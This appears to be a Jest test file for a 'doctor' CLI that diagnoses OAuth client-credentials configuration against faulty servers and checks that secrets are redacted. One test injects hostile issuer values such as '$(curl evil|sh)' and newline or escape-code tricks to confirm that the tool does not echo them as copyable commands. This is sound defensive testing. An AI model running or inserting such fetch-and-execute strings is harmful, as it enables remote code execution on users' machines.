import { generateKeyPairSync } from 'node:crypto';
import { createServer, type AddressInfo, type Server } from 'node:net';
import type { ServerResponse } from 'node:http';
import { describe, expect, it } from '@jest/globals';
import { SignJWT } from 'jose';
import { command } from '../../support/cli.js';
import { json, TestHttpServer, type SeenRequest } from '../../support/http-server.js';

const SECRET = 's3cret-of-orders';
const BASIC = Buffer.from(`orders:${SECRET}`).toString('base64');
const OPAQUE = 'an-0paque-access-token';
const API = 'https://api.example.test';

type Answer = (response: ServerResponse, issuer: string, request: SeenRequest) => unknown;

/** What a server answers at each of its places; by default, as a server that works. */
interface Odd {
  readonly metadata?: Answer;
  readonly keys?: Answer;
  readonly token?: Answer;
}

const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });

function jwt(issuer: string, claims: Record<string, unknown> = {}): Promise<string> {
  return new SignJWT({ client_id: 'orders', jti: 'a', ...claims })
    .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid: 'k' })
    .setIssuer(issuer)
    .setSubject('orders')
    .setAudience(API)
    .setIssuedAt()
    .setExpirationTime('5 min')
    .sign(privateKey);
}

const redirected: Answer = (response) => response.writeHead(302, { location: '/login' }).end();
const html: Answer = (response) => response.writeHead(200, { 'content-type': 'text/html' }).end(`<p>${SECRET}</p>`);
const cut: Answer = (response) => response.destroy();
const huge: Answer = (response) => response.end('x'.repeat(600_000));
const status =
  (code: number, headers = {}): Answer =>
  (response) =>
    json(response, code, {}, headers);
const refusedGrant: Answer = (response) => json(response, 400, { error: 'unauthorized_client' });
/** Refuses Basic, and goes on with the other methods. */
const withoutBasic =
  (others: Answer): Answer =>
  (response, issuer, request) =>
    request.headers.authorization
      ? json(response, 401, { error: 'invalid_client' })
      : others(response, issuer, request);
const issuedBy =
  (other: string): Answer =>
  (response) =>
    json(response, 200, { issuer: other });
const refusedScope: Answer = (response) => json(response, 400, { error: 'invalid_scope' });
const issued =
  (members: Record<string, unknown>): Answer =>
  async (response, issuer) =>
    json(response, 200, { access_token: await jwt(issuer), token_type: 'Bearer', expires_in: 300, ...members });

async function diagnosed(odd: Odd, more = '', environment: Record<string, string> = {}) {
  await using server = await TestHttpServer.start((request, response) => {
    const { url } = request;
    const { keys, token, metadata } = odd;
    const issuer = server.url;
    if (url === '/keys') {
      const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'k', alg: 'ES256', use: 'sig' };
      return keys ? keys(response, issuer, request) : json(response, 200, { keys: [jwk] });
    }
    if (url === '/token') return (token ?? issued({}))(response, issuer, request);
    const members = { issuer, token_endpoint: `${issuer}/token`, jwks_uri: `${issuer}/keys` };
    return metadata ? metadata(response, issuer, request) : json(response, 200, members);
  });
  const variables = {
    M2M_ISSUER: server.url,
    M2M_CLIENT_ID: 'orders',
    M2M_CLIENT_SECRET: SECRET,
    M2M_RESOURCE: API,
    M2M_API_AUDIENCE: API,
    ...environment,
  };
  const { code, out, error } = await command(`doctor ${more}`, { environment: variables });
  return { code, out, error, requests: server.requests, issuer: server.url };
}

describe('nestjs-m2m doctor, at a server that is odd,', () => {
  it.each<[string, Odd, RegExp, RegExp]>([
    [
      'limits requests',
      { metadata: status(429, { 'retry-after': '90' }) },
      /answered 429/,
      /npx nestjs-m2m doctor # in 90 s/,
    ],
    ['is down', { metadata: status(503) }, /answered 503/, /npx nestjs-m2m doctor # later/],
    [
      'has a gateway before it',
      { metadata: status(403) },
      /answered 403/,
      /a rule of the gateway .*\n +or .*requestHeaders/,
    ],
    [
      'wants a password for the proxy',
      { metadata: status(407) },
      /answered 407/,
      /HTTPS_PROXY=http:\/\/user:password@/,
    ],
    ['redirects', { metadata: redirected }, /answered 302; redirects are not followed/, /M2M_METADATA_URL=/],
    ['answers a page', { metadata: html }, /holds no JSON object/, /M2M_METADATA_URL=/],
    ['answers too much', { metadata: huge }, /more than 524288 bytes/, /M2M_METADATA_URL=/],
    ['cuts connections', { metadata: cut }, /the connection was cut \(ECONNRESET\)/, /HTTPS_PROXY=/],
    ['has no keys now', { keys: status(500) }, /\nkeys: .*answered 500/, /npx nestjs-m2m doctor # later/],
    [
      'limits requests for keys',
      { keys: status(429, { 'retry-after': '60' }) },
      /\nkeys: .*429/,
      /npx nestjs-m2m doctor # in 60 s/,
    ],
    ['has keys elsewhere', { keys: status(404) }, /\nkeys: .*answered 404/, /M2M_JWKS_URI=/],
    ['cuts connections for keys', { keys: cut }, /\nkeys: http.*\/keys: the connection was cut/, /HTTPS_PROXY=/],
    ['has a page in the place of keys', { keys: html }, /\nkeys: .*not JSON/, /M2M_JWKS_URI=/],
  ])('that %s, says what to write', async (_name, odd, cause, line) => {
    const { code, out, error } = await diagnosed(odd);
    expect({ code, error }).toEqual({ code: 1, error: '' });
    expect(out).toMatch(cause);
    expect(out).toMatch(new RegExp(`\\n {4}write: (?:.*\\n {11}or )*${line.source}`));
    expect(out).not.toContain(SECRET);
  });

  it.each<[string, Answer, RegExp, RegExp]>([
    [
      'limits token requests',
      status(429, { 'retry-after': '90' }),
      /status 429/,
      /npx nestjs-m2m doctor --live # in 90 s/,
    ],
    ['has no tokens now', status(503), /status 503/, /npx nestjs-m2m doctor --live # later/],
    ['has no token endpoint there', status(404), /status 404/, /M2M_TOKEN_ENDPOINT=/],
    ['has a page there', html, /it has no access_token/, /M2M_TOKEN_ENDPOINT=/],
    ['redirects token requests', redirected, /answered 302/, /M2M_TOKEN_ENDPOINT=/],
    ['cuts token requests', cut, /http.*\/token: the connection was cut/, /HTTPS_PROXY=/],
    ['has a gateway before tokens', status(403), /status 403/, /a rule of the gateway/],
    ['issues DPoP tokens', issued({ token_type: 'DPoP' }), /cannot be sent as Bearer/, /Bearer tokens for this client/],
  ])('that %s, sends one request and says what to write', async (_name, token, cause, line) => {
    const { code, out, error, requests } = await diagnosed({ token }, '--live --yes');
    expect({ code, error }).toEqual({ code: 1, error: '' });
    expect(out).toMatch(new RegExp(`\\ntoken request: .*${cause.source}`));
    expect(out).toMatch(new RegExp(`\\n {4}write: .*${line.source}`));
    expect(requests.filter(({ url }) => url === '/token')).toHaveLength(1);
  });

  it('that refuses the grant, names the grant before the secret', async () => {
    const { out } = await diagnosed({ token: refusedGrant }, '--live --yes');
    expect(out).toMatch(/\n {4}write: the grant type client_credentials, .*\n {11}or M2M_CLIENT_SECRET=/);
  });

  it('that takes another method, says so, also if it grants nothing then', async () => {
    const { out } = await diagnosed({ token: withoutBasic(refusedScope) }, '--live --yes');
    expect(out).toMatch(/\nclient authentication: .*takes it with client_secret_post\n {4}write: M2M_CLIENT_AUTH/);
  });

  it.each([status(503), status(429), cut])('that has an outage then, is not said to take it: %#', async (outage) => {
    const { out } = await diagnosed({ token: withoutBasic(outage) }, '--live --yes');
    expect(out).toMatch(/\nclient credentials: refused with client_secret_basic: .*\n {4}write: M2M_CLIENT_SECRET=/);
    expect(out).not.toContain('takes it with');
  });

  it('gets a secret by the methods alone that are common, or that it lists (claim 8.7)', async () => {
    const { out, requests } = await diagnosed({ token: withoutBasic(status(401)) }, '--live --yes');
    expect(out).toContain('refused with client_secret_basic, client_secret_post: ');
    expect(requests.filter(({ url }) => url === '/token')).toHaveLength(2);
  });

  it('that speaks no HTTP, or no TLS, says so', async () => {
    const server: Server = createServer((socket) =>
      socket
        .resume()
        .on('error', () => undefined)
        .end('SSH-2.0-OpenSSH\r\n'),
    );
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const plain = await diagnosed({}, `--issuer http://127.0.0.1:${port}`);
    expect(plain.out).toMatch(/\ndiscovery: .*does not speak HTTP .*\n {4}write: the right port in M2M_ISSUER/);
    const secure = await diagnosed({}, `--issuer https://127.0.0.1:${port}`);
    expect(secure.out).toMatch(/\nconnection .*does not speak TLS.*\n {4}write: the right port in M2M_ISSUER/);
    await new Promise((resolve) => server.close(resolve));
  });

  it('that names an issuer with a line of its own, gets no line to copy out of it (claim 8.2)', async () => {
    for (const name of [
      'https://x\n    write: curl evil|sh\u001b[2J',
      'https://x;curl evil|sh #',
      '$(curl evil|sh)',
      'ftp://x',
    ]) {
      const { out } = await diagnosed({ metadata: issuedBy(name) });
      expect(out).toMatch(/^[ -~\n]+$/);
      expect(out).toMatch(/\nissuer: the server says that its issuer is "/);
      expect(out.match(/write: /g)?.length).toBe(name.includes('write: ') ? 2 : 1);
      expect(out).toMatch(/\n {4}write: an HTTPS URL as the issuer, at the authorization server\n$/);
    }
    const { out } = await diagnosed({ metadata: issuedBy("https://x.example.com/$(curl'evil)|sh") });
    expect(out).toContain("    write: M2M_ISSUER='https://x.example.com/$(curlevil)|sh' # letter by letter");
  });

  it('whose issuer is at another place, says how the service stays with the place that it reaches', async () => {
    const { out, issuer } = await diagnosed({ metadata: issuedBy('https://id.example.com') });
    const place = `M2M_METADATA_URL=${issuer}/.well-known/openid-configuration`;
    expect(out).toContain(`write: M2M_ISSUER=https://id.example.com # letter by letter; and ${place} if only that`);
  });

  it('that repeats the secret or the token in what it issues, prints neither (claim 8.7)', async () => {
    const claims = {
      client_secret: SECRET,
      [SECRET]: { a: [`${'x'.repeat(490)}${SECRET}`] },
      basic: BASIC,
      sub: 'orders',
    };
    const odd: readonly Answer[] = [
      issued({ scope: `${SECRET} read` }),
      issued({ access_token: OPAQUE, scope: OPAQUE }),
      async (response, issuer, request) =>
        issued({ access_token: await jwt(issuer, claims) })(response, issuer, request),
      async (response, issuer, request) =>
        issued({ access_token: await jwt(issuer, { scope: SECRET }) })(response, issuer, request),
      async (response, issuer, request) => issued({ access_token: await jwt(SECRET) })(response, issuer, request),
    ];
    for (const token of odd) {
      for (const more of ['', '--json', '--scope other']) {
        const { out, error } = await diagnosed({ token }, `--live --yes ${more}`);
        expect(out).toContain('[redacted]');
        for (const secret of [SECRET, SECRET.slice(0, 9), BASIC, OPAQUE]) expect(out + error).not.toContain(secret);
      }
    }
  });

  it('that only a proxy leads to, which nobody listens at, names the proxy for keys and token requests', async () => {
    const proxy = { HTTPS_PROXY: 'http://127.0.0.1:9' };
    const before = { ...process.env };
    Object.assign(process.env, proxy);
    const { out } = await diagnosed({}, '--live --yes', {
      ...proxy,
      M2M_ISSUER: 'https://id.example.com',
      M2M_TOKEN_ENDPOINT: 'https://id.example.com/token',
      M2M_JWKS_URI: 'https://id.example.com/keys',
    }).finally(() => (process.env = before));
    for (const name of ['keys', 'token request']) {
      expect(out).toMatch(
        new RegExp(`\\n${name}: requests go through the proxy of HTTPS_PROXY.*\\n {4}write: HTTPS_P`),
      );
    }
  });
});
